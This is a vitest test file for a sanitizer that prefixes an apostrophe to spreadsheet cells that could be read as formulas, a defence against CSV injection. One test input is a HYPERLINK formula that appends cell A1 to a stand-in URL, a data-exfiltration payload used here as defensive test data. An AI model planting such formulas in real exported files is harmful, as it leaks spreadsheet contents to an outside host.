import { expect, it } from 'vitest'
import { withoutFormula } from './spreadsheet-cell.ts'

it.each([
  '=1+1',
  '=HYPERLINK("https://example.test?"&A1,"Click")',
  '+447700900123',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=',
])('%j could be a formula, and gets an apostrophe before it (PRT-15)', (cell) => {
  expect(withoutFormula(cell)).toBe(`'${cell}`)
})

it.each([
  '',
  'Grace',
  'O’Brien',
  "'=1+1",
  'anna+news@mail.example',
  '07700 900123',
  'Smith-Jones',
  ' =1+1',
  '1=1',
])('%j stays as it is (PRT-15)', (cell) => {
  expect(withoutFormula(cell)).toBe(cell)
})
